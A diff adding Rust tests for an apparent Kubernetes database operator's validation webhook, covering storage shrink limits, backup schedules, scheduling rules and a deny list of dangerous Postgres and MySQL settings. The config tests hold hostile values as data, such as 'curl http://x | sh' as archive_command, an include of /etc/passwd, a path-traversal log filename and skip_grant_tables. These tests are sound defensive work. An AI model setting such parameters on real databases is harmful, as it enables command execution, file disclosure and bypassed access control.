@@ -260,6 +260,24 @@ fn storage_rules_on_update() {
             &["cannot shrink from 20Gi to 20479Mi"],
         ),
         (
+            "shrink_from_a_stored_size_beyond_int64_is_denied",
+            json!({"storageSize": "100Ei"}),
+            json!({"storageSize": "10Gi"}),
+            &["spec.storageSize: cannot shrink from 100Ei to 10Gi"],
+        ),
+        (
+            "shrink_from_a_stored_size_beyond_i128_nanos_is_denied",
+            json!({"storageSize": "1e40"}),
+            json!({"storageSize": "7Ei"}),
+            &["spec.storageSize: cannot shrink from 1e40 to 7Ei"],
+        ),
+        (
+            "shrink_just_below_int64_max_is_denied",
+            json!({"storageSize": "9223372036854775808"}),
+            json!({"storageSize": "9223372036854775807"}),
+            &["cannot shrink from 9223372036854775808 to 9223372036854775807"],
+        ),
+        (
             "old_without_size_allows_any_valid_size",
             json!({"storageSize": null}),
             json!({"storageSize": "5Gi"}),
@@ -342,6 +360,8 @@ fn backup_schedule_rule() {
         ("out_of_range_minute_is_denied", json!({"backupSchedule": "61 2 * * *"}), &["61 is outside 0-59"]),
         ("reboot_macro_is_denied", json!({"backupSchedule": "@reboot"}), &["unknown descriptor @reboot"]),
         ("timezone_prefix_is_denied", json!({"backupSchedule": "CRON_TZ=UTC 0 2 * * *"}), &["time zones"]),
+        ("step_beyond_u32_is_allowed_as_robfig_reads_it", json!({"backupSchedule": "59/4294967295 * * * *"}), &[]),
+        ("step_beyond_int64_is_denied", json!({"backupSchedule": "59/9223372036854775808 * * * *"}), &["step \"9223372036854775808\" is too large"]),
     ]);
 }
 
@@ -362,6 +382,20 @@ fn allowed_schedules_warn_with_the_next_three_runs() {
     );
     assert!(v.allowed());
     assert!(v.warnings[0].contains("never runs"));
+}
+
+#[test]
+fn removing_the_backup_schedule_on_update_warns_that_backups_stop() {
+    let old = db("orders", merged(json!({"backupSchedule": "0 2 * * *"})));
+    let verdict = check(&db("orders", merged(json!({}))), Some(&old));
+    assert!(verdict.allowed(), "{verdict}");
+    assert_eq!(
+        verdict.warnings,
+        ["spec.backupSchedule: removed (was \"0 2 * * *\"); the backup CronJob is deleted and no more backups run. Set spec.backupSchedule again to keep backups"]
+    );
+    assert!(check(&db("orders", merged(json!({}))), None)
+        .warnings
+        .is_empty());
 }
 
 #[test]
@@ -410,6 +444,36 @@ fn config_rule() {
         ("uppercase_key_is_denied", json!({"config": {"Port": "1"}}), &["key \"Port\" is not a parameter name"]),
         ("key_with_space_is_denied", json!({"config": {"max connections": "1"}}), &["key \"max connections\" is not a parameter name"]),
         ("value_with_newline_is_denied", json!({"config": {"work_mem": "4MB\nport = 1"}}), &["line break"]),
+        ("postgres_archive_command_is_denied", json!({"config": {"archive_command": "curl http://x | sh"}}), &["spec.config.archive_command: archive_command cannot be set for postgres: it runs commands or statements chosen by the user as the database server"]),
+        ("postgres_restore_command_is_denied", json!({"config": {"restore_command": "cp /x %p"}}), &["spec.config.restore_command: restore_command cannot be set", "runs commands"]),
+        ("postgres_ssl_passphrase_command_is_denied", json!({"config": {"ssl_passphrase_command": "sh -c id"}}), &["spec.config.ssl_passphrase_command", "runs commands"]),
+        ("postgres_archive_library_is_denied", json!({"config": {"archive_library": "basic_archive"}}), &["spec.config.archive_library", "loads shared libraries"]),
+        ("postgres_shared_preload_libraries_is_denied", json!({"config": {"shared_preload_libraries": "evil"}}), &["spec.config.shared_preload_libraries", "loads shared libraries"]),
+        ("postgres_session_preload_libraries_is_denied", json!({"config": {"session_preload_libraries": "x"}}), &["spec.config.session_preload_libraries", "loads shared libraries"]),
+        ("postgres_dynamic_library_path_is_denied", json!({"config": {"dynamic_library_path": "/tmp"}}), &["spec.config.dynamic_library_path", "loads shared libraries"]),
+        ("postgres_include_is_denied", json!({"config": {"include": "/etc/passwd"}}), &["spec.config.include: include cannot be set", "file or directory"]),
+        ("postgres_include_dir_is_denied", json!({"config": {"include_dir": "/tmp"}}), &["spec.config.include_dir", "file or directory"]),
+        ("postgres_include_if_exists_is_denied", json!({"config": {"include_if_exists": "/x"}}), &["spec.config.include_if_exists"]),
+        ("postgres_log_directory_is_denied", json!({"config": {"log_directory": "/var/lib/postgresql"}}), &["spec.config.log_directory", "file or directory"]),
+        ("postgres_log_filename_is_denied", json!({"config": {"log_filename": "../../data/pg_hba.conf"}}), &["spec.config.log_filename"]),
+        ("postgres_ssl_key_file_is_denied", json!({"config": {"ssl_key_file": "/x"}}), &["spec.config.ssl_key_file"]),
+        ("postgres_unknown_command_parameter_is_denied", json!({"config": {"myext.on_start_command": "sh"}}), &["spec.config.myext.on_start_command: myext.on_start_command is not a postgres parameter the operator knows", "runs commands"]),
+        ("postgres_unknown_path_parameter_is_denied", json!({"config": {"pgaudit.log_directory": "/x"}}), &["spec.config.pgaudit.log_directory", "may take a command, a library or a path"]),
+        ("postgres_search_path_is_allowed", json!({"config": {"search_path": "\"$user\", public"}}), &[]),
+        ("postgres_known_booleans_and_enums_are_allowed", json!({"config": {"autovacuum": "on", "jit": "off", "huge_pages": "try", "default_transaction_isolation": "repeatable read"}}), &[]),
+        ("mysql_init_file_is_denied", json!({"engine": "mysql", "version": "8.4.7", "config": {"init-file": "/tmp/x.sql"}}), &["spec.config.init-file: init-file cannot be set for mysql: it runs commands"]),
+        ("mysql_init_connect_is_denied", json!({"engine": "mysql", "version": "8.4.7", "config": {"init_connect": "DROP DATABASE x"}}), &["spec.config.init_connect", "runs commands"]),
+        ("mysql_plugin_load_add_is_denied", json!({"engine": "mysql", "version": "8.4.7", "config": {"loose-plugin-load-add": "x.so"}}), &["spec.config.loose-plugin-load-add", "loads shared libraries or plugins"]),
+        ("mysql_plugin_load_is_denied", json!({"engine": "mysql", "version": "8.4.7", "config": {"plugin_load": "x.so"}}), &["spec.config.plugin_load"]),
+        ("mysql_skip_grant_tables_in_any_spelling_is_denied", json!({"engine": "mysql", "version": "8.4.7", "config": {"loose-skip-grant-tables": "1", "skip_grant_tables": "ON"}}), &["spec.config.loose-skip-grant-tables", "spec.config.skip_grant_tables", "access control"]),
+        ("mysql_enable_local_infile_is_denied", json!({"engine": "mysql", "version": "8.4.7", "config": {"enable-local-infile": "1"}}), &["spec.config.enable-local-infile", "access control or lets clients read files"]),
+        ("mysql_disable_prefix_is_normalised_too", json!({"engine": "mysql", "version": "8.4.7", "config": {"disable-local_infile": "1"}}), &["spec.config.disable-local_infile"]),
+        ("mysql_secure_file_priv_is_denied", json!({"engine": "mysql", "version": "8.4.7", "config": {"secure-file-priv": ""}}), &["spec.config.secure-file-priv"]),
+        ("mysql_log_files_are_denied", json!({"engine": "mysql", "version": "8.4.7", "config": {"general_log_file": "/x", "slow-query-log-file": "/x", "log-error": "/x"}}), &["spec.config.general_log_file", "spec.config.slow-query-log-file", "spec.config.log-error"]),
+        ("mysql_pid_file_with_loose_prefix_is_denied", json!({"engine": "mysql", "version": "8.4.7", "config": {"loose-loose-pid-file": "/x"}}), &["spec.config.loose-loose-pid-file: loose-loose-pid-file is managed by the operator"]),
+        ("mysql_unknown_plugin_parameter_is_denied", json!({"engine": "mysql", "version": "8.4.7", "config": {"loose-server-audit-file-path": "/x"}}), &["spec.config.loose-server-audit-file-path", "may take a command, a library or a path"]),
+        ("mysql_known_parameters_with_risky_words_are_allowed", json!({"engine": "mysql", "version": "8.4.7", "config": {"innodb_log_file_size": "48M", "innodb-file-per-table": "ON", "skip-name-resolve": "ON", "open_files_limit": "5000"}}), &[]),
+        ("mysql_unknown_harmless_parameter_is_allowed", json!({"engine": "mysql", "version": "8.4.7", "config": {"sql_mode": "STRICT_TRANS_TABLES"}}), &[]),
     ]);
 }
 
@@ -566,4 +630,65 @@ fn a_downgrade_to_an_unsupported_version_is_reported_once() {
     );
     assert_eq!(v.errors.len(), 1, "{v}");
     assert!(!v.denial_message().contains("downgrade"));
+}
+
+#[test]
+fn scheduling_rule() {
+    let sched = |v: Value| json!({"scheduling": v});
+    run_create_table(&[
+        ("full_scheduling_is_allowed", sched(json!({
+            "nodeSelector": {"kubernetes.io/os": "linux", "disktype": "ssd", "empty": ""},
+            "tolerations": [
+                {"key": "kwok.x-k8s.io/node", "operator": "Exists", "effect": "NoSchedule"},
+                {"key": "dedicated", "value": "db", "effect": "NoExecute", "tolerationSeconds": 300},
+                {"operator": "Exists"}
+            ],
+            "affinity": {
+                "nodeAffinity": {
+                    "requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": [
+                        {"matchExpressions": [
+                            {"key": "topology.kubernetes.io/zone", "operator": "In", "values": ["a", "b"]},
+                            {"key": "cpu-count", "operator": "Gt", "values": ["4"]},
+                            {"key": "spot", "operator": "DoesNotExist"}
+                        ]},
+                        {"matchFields": [{"key": "metadata.name", "operator": "In", "values": ["node-1"]}]}
+                    ]},
+                    "preferredDuringSchedulingIgnoredDuringExecution": [
+                        {"weight": 100, "preference": {"matchExpressions": [{"key": "disktype", "operator": "Exists"}]}}
+                    ]
+                },
+                "podAntiAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": [
+                    {"topologyKey": "kubernetes.io/hostname", "labelSelector": {"matchLabels": {"app.kubernetes.io/instance": "orders"}}}
+                ]}
+            },
+            "topologySpreadConstraints": [
+                {"maxSkew": 1, "topologyKey": "topology.kubernetes.io/zone", "whenUnsatisfiable": "DoNotSchedule", "minDomains": 2,
+                 "nodeAffinityPolicy": "Honor", "nodeTaintsPolicy": "Ignore", "matchLabelKeys": ["controller-revision-hash"]},
+                {"maxSkew": 2, "topologyKey": "kubernetes.io/hostname", "whenUnsatisfiable": "ScheduleAnyway"}
+            ]
+        })), &[]),
+        ("empty_scheduling_is_allowed", sched(json!({})), &[]),
+        ("node_selector_bad_key_is_denied", sched(json!({"nodeSelector": {"disk type": "ssd"}})), &["spec.scheduling.nodeSelector: label key \"disk type\" is not a qualified name"]),
+        ("node_selector_bad_prefix_is_denied", sched(json!({"nodeSelector": {"Example.com/x": "y"}})), &["spec.scheduling.nodeSelector: label key \"Example.com/x\" has the prefix"]),
+        ("node_selector_bad_value_is_denied", sched(json!({"nodeSelector": {"disktype": "-ssd"}})), &["spec.scheduling.nodeSelector.disktype: \"-ssd\" is not a label value"]),
+        ("toleration_unknown_operator_is_denied", sched(json!({"tolerations": [{"key": "a", "operator": "exists"}]})), &["spec.scheduling.tolerations[0].operator: \"exists\" is not a toleration operator; use one of Equal, Exists"]),
+        ("toleration_unknown_effect_is_denied", sched(json!({"tolerations": [{"operator": "Exists", "effect": "NoScheduling"}]})), &["spec.scheduling.tolerations[0].effect: \"NoScheduling\" is not a taint effect; use one of NoSchedule, PreferNoSchedule, NoExecute"]),
+        ("toleration_empty_key_needs_exists", sched(json!({"tolerations": [{"value": "x"}]})), &["spec.scheduling.tolerations[0].operator: an empty key matches every taint and needs operator: Exists"]),
+        ("toleration_exists_with_value_is_denied", sched(json!({"tolerations": [{"key": "a", "operator": "Exists", "value": "b"}]})), &["spec.scheduling.tolerations[0].value: must be empty when operator is Exists"]),
+        ("toleration_seconds_without_noexecute_is_denied", sched(json!({"tolerations": [{"key": "a", "operator": "Exists", "effect": "NoSchedule", "tolerationSeconds": 5}]})), &["spec.scheduling.tolerations[0].tolerationSeconds: only applies to effect NoExecute"]),
+        ("node_affinity_in_without_values_is_denied", sched(json!({"affinity": {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": [{"matchExpressions": [{"key": "zone", "operator": "In"}]}]}}}})), &["spec.scheduling.affinity.nodeAffinity.requiredDuringSchedulingIgnoredDuringExecution.nodeSelectorTerms[0].matchExpressions[0].values: operator In needs at least one value"]),
+        ("node_affinity_gt_needs_one_integer", sched(json!({"affinity": {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": [{"matchExpressions": [{"key": "cpus", "operator": "Gt", "values": ["four"]}]}]}}}})), &["matchExpressions[0].values: operator Gt needs exactly one integer value"]),
+        ("node_affinity_unknown_operator_is_denied", sched(json!({"affinity": {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": [{"matchExpressions": [{"key": "zone", "operator": "Equals", "values": ["a"]}]}]}}}})), &["matchExpressions[0].operator: \"Equals\" is not a node selector operator"]),
+        ("node_affinity_without_terms_is_denied", sched(json!({"affinity": {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": []}}}})), &["spec.scheduling.affinity.nodeAffinity.requiredDuringSchedulingIgnoredDuringExecution.nodeSelectorTerms: needs at least one term"]),
+        ("preferred_weight_out_of_range_is_denied", sched(json!({"affinity": {"nodeAffinity": {"preferredDuringSchedulingIgnoredDuringExecution": [{"weight": 0, "preference": {}}]}}})), &["spec.scheduling.affinity.nodeAffinity.preferredDuringSchedulingIgnoredDuringExecution[0].weight: 0 is out of range; use a weight from 1 to 100"]),
+        ("pod_anti_affinity_needs_a_topology_key", sched(json!({"affinity": {"podAntiAffinity": {"preferredDuringSchedulingIgnoredDuringExecution": [{"weight": 10, "podAffinityTerm": {"topologyKey": ""}}]}}})), &["spec.scheduling.affinity.podAntiAffinity.preferredDuringSchedulingIgnoredDuringExecution[0].podAffinityTerm.topologyKey: is required"]),
+        ("pod_affinity_bad_selector_operator_is_denied", sched(json!({"affinity": {"podAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": [{"topologyKey": "kubernetes.io/hostname", "labelSelector": {"matchExpressions": [{"key": "app", "operator": "Gt", "values": ["1"]}]}}]}}})), &["labelSelector.matchExpressions[0].operator: \"Gt\" is not a label selector operator"]),
+        ("spread_zero_skew_is_denied", sched(json!({"topologySpreadConstraints": [{"maxSkew": 0, "topologyKey": "zone", "whenUnsatisfiable": "DoNotSchedule"}]})), &["spec.scheduling.topologySpreadConstraints[0].maxSkew: must be at least 1"]),
+        ("spread_bad_when_unsatisfiable_is_denied", sched(json!({"topologySpreadConstraints": [{"maxSkew": 1, "topologyKey": "zone", "whenUnsatisfiable": "Never"}]})), &["spec.scheduling.topologySpreadConstraints[0].whenUnsatisfiable: \"Never\" is not a whenUnsatisfiable value; use one of DoNotSchedule, ScheduleAnyway"]),
+        ("spread_min_domains_needs_do_not_schedule", sched(json!({"topologySpreadConstraints": [{"maxSkew": 1, "topologyKey": "zone", "whenUnsatisfiable": "ScheduleAnyway", "minDomains": 2}]})), &["spec.scheduling.topologySpreadConstraints[0].minDomains: only applies with whenUnsatisfiable: DoNotSchedule"]),
+        ("spread_duplicate_pair_is_denied", sched(json!({"topologySpreadConstraints": [
+            {"maxSkew": 1, "topologyKey": "zone", "whenUnsatisfiable": "DoNotSchedule"},
+            {"maxSkew": 2, "topologyKey": "zone", "whenUnsatisfiable": "DoNotSchedule"}]})), &["spec.scheduling.topologySpreadConstraints[1]: a second constraint for topologyKey \"zone\""]),
+        ("spread_bad_policy_is_denied", sched(json!({"topologySpreadConstraints": [{"maxSkew": 1, "topologyKey": "zone", "whenUnsatisfiable": "DoNotSchedule", "nodeTaintsPolicy": "honor"}]})), &["spec.scheduling.topologySpreadConstraints[0].nodeTaintsPolicy: \"honor\" is not a policy; use one of Honor, Ignore"]),
+    ]);
 }
